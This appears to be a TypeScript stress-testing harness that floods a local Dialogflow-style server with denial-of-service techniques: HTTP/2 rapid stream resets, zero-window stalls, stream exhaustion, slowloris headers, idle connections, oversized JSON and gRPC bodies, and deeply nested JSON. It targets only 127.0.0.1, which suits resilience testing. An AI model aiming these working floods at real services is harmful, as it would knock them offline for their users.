import { request as httpRequest } from 'node:http';
import { connect as connectHttp2 } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { dataFrame, FloodConnection, headersFrame, resetFrame } from './flood-frames.ts';

/** What an attack has to work with. */
export interface Arena {
  readonly port: number;
  /** Such as `projects/demo/conversations/flood`. */
  readonly conversation: string;
  /** Requests for it, with gRPC's prefix. */
  readonly getConversation: Buffer;
  readonly listMessages: Buffer;
  readonly seconds: number;
  /** Keeps account of what was done, which is told afterwards. */
  readonly count: (what: string, by?: number) => void;
}

/** Goes on until its process is ended. What must be prepared is prepared before the function is returned. */
export type Attack = (arena: Arena) => () => void;

const SERVICE = '/google.cloud.dialogflow.v2beta1.Conversations';
const GET_CONVERSATION = `${SERVICE}/GetConversation`;
const LIST_MESSAGES = `${SERVICE}/ListMessages`;
const BATCH_CREATE = `${SERVICE}/BatchCreateMessages`;

const MIB = 1024 * 1024;
/** More than a request may have. */
const BODY_OVER = 33 * MIB;
/** As much as it may have. */
const BODY_BELOW = 31 * MIB;
const CHUNK = Buffer.alloc(64 * 1024, 'x');
/** What Node lets a request line and headers have is 16 KiB. */
const QUERY_BYTES = 15 * 1024;

export const attacks = {
  'streams reset at once': (arena) => () => {
    let connection = new FloodConnection(arena.port);
    arena.count('connections');
    pace(2000, (due) => {
      if (connection.closed) {
        connection = new FloodConnection(arena.port);
        arena.count('connections');
      }
      if (connection.congested) return;
      const frames: Buffer[] = [];
      for (let call = 0; call < due; call++) {
        const stream = connection.open();
        frames.push(headersFrame(stream, GET_CONVERSATION), dataFrame(stream, arena.getConversation));
        frames.push(resetFrame(stream));
      }
      connection.write(frames);
      arena.count('streams', due);
    });
  },

  'a window of zero': (arena) => () => {
    const connection = new FloodConnection(arena.port, { window: 0 });
    const frames: Buffer[] = [];
    for (let call = 0; call < 500; call++) {
      const stream = connection.open();
      frames.push(headersFrame(stream, LIST_MESSAGES), dataFrame(stream, arena.listMessages));
    }
    connection.write(frames);
    arena.count('calls', 500);
    let told = 0;
    pace(20, () => {
      arena.count('answered', connection.answered - told);
      told = connection.answered;
    });
  },

  '10,000 streams on a connection': (arena) => () => {
    const connection = new FloodConnection(arena.port);
    const sliceMs = (arena.seconds * 1000) / 10;
    let opened = 0;
    const slice = (): void => {
      // The next streams are let in once those before are over.
      if (opened === 10_000 || connection.streamsMax === undefined || connection.over < opened) {
        if (opened < 10_000) setTimeout(slice, 5);
        return;
      }
      const count = Math.min(1000, connection.streamsMax, 10_000 - opened);
      const streams = Array.from({ length: count }, () => connection.open());
      opened += count;
      connection.write(streams.map((stream) => headersFrame(stream, GET_CONVERSATION)));
      arena.count('streams', count);
      setTimeout(() => {
        connection.write(streams.map((stream) => dataFrame(stream, arena.getConversation)));
      }, sliceMs / 2);
      setTimeout(slice, sliceMs);
    };
    slice();
  },

  'connections that say nothing': (arena) => () => {
    const open = (): void => {
      arena.count('connections');
      const socket = connect(arena.port, '127.0.0.1');
      socket.on('error', () => socket.destroy()).once('close', () => setTimeout(open, 1000));
    };
    for (let connection = 0; connection < 500; connection++) open();
  },

  'headers a byte at a time': (arena) => () => {
    const open = (): void => {
      arena.count('connections');
      const socket = connect(arena.port, '127.0.0.1');
      const bytes = drip();
      const timer = setInterval(() => {
        socket.write(bytes.next().value);
        arena.count('bytes');
      }, 1000);
      socket
        .on('error', () => socket.destroy())
        .once('close', () => {
          clearInterval(timer);
          setTimeout(open, 1000);
        });
    };
    for (let connection = 0; connection < 200; connection++) setTimeout(open, connection * 5);
  },

  'JSON over the limit': (arena) => () => {
    let index = 0;
    twoAtATime(6, () => {
      // One says how large it is and is refused for it, the other lets it be found out.
      const length = index++ % 2 === 0 ? { 'content-length': BODY_OVER } : {};
      return post(arena, '/v2beta1/projects/demo/conversations', length, BODY_OVER);
    });
  },

  'gRPC messages over the limit': (arena) => () => {
    twoAtATime(50, () => pourGrpc(arena, BODY_OVER));
  },

  'thousands of fields in a query': (arena) => {
    const query = 'a&'.repeat(QUERY_BYTES / 2);
    const head = `GET /v2beta1/${arena.conversation}?${query} HTTP/1.1\r\nhost: localhost\r\n\r\n`;
    return () => {
      const sockets = new Map<number, Socket>();
      let next = 0;
      pace(500, (due) => {
        for (let call = 0; call < due; call++) {
          const index = next++ % 8;
          let socket = sockets.get(index);
          if (socket === undefined || socket.destroyed) {
            const opened = connect(arena.port, '127.0.0.1');
            opened.on('error', () => opened.destroy()).resume();
            sockets.set(index, opened);
            socket = opened;
          }
          if (socket.writableLength > MIB) continue;
          socket.write(head);
          arena.count('requests');
        }
      });
    };
  },

  'JSON nested deeply': (arena) => {
    const body = Buffer.concat([Buffer.from('{"conversationProfile":'), Buffer.alloc(MIB, '[')]);
    return () =>
      twoAtATime(50, () => post(arena, '/v2beta1/projects/demo/conversations', {}, body.length, [body]));
  },

  'large JSON that is refused': (arena) => {
    // Well-formed, and read to its end before it turns out that there is no such field.
    const body = Buffer.alloc(BODY_BELOW, '1,');
    body.write('{"conversationProfile":"x","nonsense": [');
    body.write('1]}', BODY_BELOW - 3);
    return () =>
      twoAtATime(2, () => post(arena, '/v2beta1/projects/demo/conversations', {}, body.length, [body]));
  },

  'large gRPC messages that are refused': (arena) => {
    // As many empty elements of a list as there is room for: each is two bytes here, and an object there.
    const message = Buffer.alloc(BODY_BELOW, Buffer.from([0x12, 0]));
    return () => twoAtATime(2, () => pourGrpc(arena, message.byteLength, [message]));
  },
} satisfies Record<string, Attack>;

/** Does so many of something a second; what a busy machine has put off for long is not made up for. */
function pace(perSecond: number, step: (due: number) => void): void {
  let last = performance.now();
  let owed = 0;
  setInterval(() => {
    const now = performance.now();
    owed = Math.min(owed + ((now - last) * perSecond) / 1000, perSecond / 10 + 1);
    last = now;
    const due = Math.floor(owed);
    owed -= due;
    if (due > 0) step(due);
  }, 10);
}

/** Keeps two of something under way, but begins no more than so many a second. */
function twoAtATime(perSecond: number, start: () => Promise<void>): void {
  let underWay = 0;
  pace(perSecond, () => {
    if (underWay === 2) return;
    underWay++;
    start()
      .catch(() => {})
      .finally(() => underWay--);
  });
}

/** Sends a body to its end, whatever is answered meanwhile, unless the connection is cut. */
async function post(
  { port, count }: Arena,
  path: string,
  headers: Readonly<Record<string, number>>,
  size: number,
  pieces?: readonly Buffer[],
): Promise<void> {
  count('requests');
  const request = httpRequest({
    host: '127.0.0.1',
    port,
    path,
    method: 'POST',
    agent: false,
    headers: { 'content-type': 'application/json', ...headers },
  });
  const closed = new Promise<void>((resolve) => request.once('close', () => resolve()));
  request.on('error', () => {});
  request.once('response', (response) => {
    count(`answered ${response.statusCode}`);
    response.on('error', () => {}).resume();
  });
  for (const piece of pieces ?? chunks(size)) {
    if (request.destroyed) break;
    if (!request.write(piece)) await Promise.race([drained(request), closed]);
    count('MiB', piece.byteLength / MIB);
  }
  request.end();
  await closed;
}

/** Sends a message to its end, unless the stream is closed. */
async function pourGrpc({ port, count }: Arena, size: number, pieces?: readonly Buffer[]): Promise<void> {
  count('calls');
  const session = connectHttp2(`http://127.0.0.1:${port}`);
  session.on('error', () => {});
  const stream = session.request({
    ':method': 'POST',
    ':path': BATCH_CREATE,
    'content-type': 'application/grpc',
    te: 'trailers',
  });
  const closed = new Promise<void>((resolve) => stream.once('close', () => resolve()));
  stream.on('error', () => {}).resume();
  stream.once('response', () => count('answered'));
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(size, 1);
  stream.write(prefix);
  for (const piece of pieces ?? chunks(size)) {
    if (stream.destroyed) break;
    if (!stream.write(piece)) await Promise.race([drained(stream), closed]);
    count('MiB', piece.byteLength / MIB);
  }
  stream.end();
  await closed;
  session.destroy();
}

function drained(stream: NodeJS.EventEmitter): Promise<void> {
  return new Promise((resolve) => stream.once('drain', () => resolve()));
}

function* chunks(size: number): Generator<Buffer> {
  for (let sent = 0; sent < size; sent += CHUNK.byteLength) yield CHUNK.subarray(0, size - sent);
}

/** Headers that do not end. */
function* drip(): Generator<string, never> {
  yield* 'GET /healthz HTTP/1.1\r\nhost: localhost\r\nx: ';
  for (;;) yield 'x';
}
